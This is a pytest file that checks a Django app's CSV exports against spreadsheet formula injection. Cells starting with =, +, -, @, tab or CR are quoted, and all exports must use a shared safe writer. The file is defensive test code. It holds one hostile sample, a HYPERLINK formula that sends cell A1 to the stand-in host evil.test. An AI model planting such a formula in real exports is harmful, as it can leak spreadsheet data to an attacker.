"""Spreadsheet exports never carry a live formula: a cell starting = + - @ tab or CR is prefixed with '.

A provider can name itself "=HYPERLINK(...)"; the staff and partner dashboard CSV lists providers.
"""

import csv
import datetime
import io
import pathlib

import pytest
from django.conf import settings
from django.urls import reverse
from django.utils import timezone

from academy.exports import csv_writer, spreadsheet_safe
from learners.models import Stage
from placements import services as placement_services
from tests.factories import CohortFactory, ProviderFactory
from tests.factories.impact import application_at
from tests.factories.placements import held_interview

pytestmark = pytest.mark.django_db

EVIL = '=HYPERLINK("http://evil.test/?"&A1,"Click")'


def _job_start_with(provider, staff):
    application = application_at(Stage.COMPLETED, cohort=CohortFactory(),
                                 at=timezone.now() - datetime.timedelta(days=60), days_per_step=5)
    interview = held_interview(application=application, by=staff,
                               vacancy__provider=provider, vacancy__site__provider=provider)
    placement_services.interview_record_outcome(interview=interview, outcome="offer", by=staff)
    placement_services.job_offer_decide(offer=interview.offer, accept=True, by=staff)
    placement_services.job_start_record(offer=interview.offer, started_on=timezone.localdate(), by=staff)


@pytest.mark.parametrize("who", ["staff", "partner"])
def test_a_provider_named_like_a_formula_is_text_in_the_dashboard_csv(who, request, client_for, staff):
    _job_start_with(ProviderFactory(name=EVIL), staff)
    response = client_for(request.getfixturevalue(who)).get(reverse("impact:dashboard_csv"))
    assert response.status_code == 200
    cells = [cell for row in csv.reader(io.StringIO(response.content.decode())) for cell in row]
    assert "'" + EVIL in cells
    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in cells)


@pytest.mark.parametrize("value", ["=1+1", "+44 7700", "-2+3", "@SUM(A1)", "\t=1", "\r=1"])
def test_cells_that_a_spreadsheet_would_run_are_quoted(value):
    assert spreadsheet_safe(value) == "'" + value


@pytest.mark.parametrize("value", ["Blackpool", "", 5, -3, 2.5, None, "a=b"])
def test_other_cells_are_unchanged(value):
    assert spreadsheet_safe(value) == value


def test_the_writer_quotes_every_cell_it_writes():
    out = io.StringIO()
    csv_writer(out).writerows([["=cmd", "ok"], ["@x", 3]])
    assert list(csv.reader(io.StringIO(out.getvalue()))) == [["'=cmd", "ok"], ["'@x", "3"]]


def test_no_export_uses_csv_writer_directly():
    """Every CSV goes through academy.exports.csv_writer, so none can skip the quoting."""
    base = pathlib.Path(settings.BASE_DIR)
    offenders = [
        str(path.relative_to(base))
        for app in ("academy", "learners", "providers", "vacancies", "courses", "placements", "impact", "config")
        for path in (base / app).rglob("*.py")
        if path.name != "exports.py" and ("csv.writer(" in path.read_text() or "csv.DictWriter(" in path.read_text())
    ]
    assert offenders == []
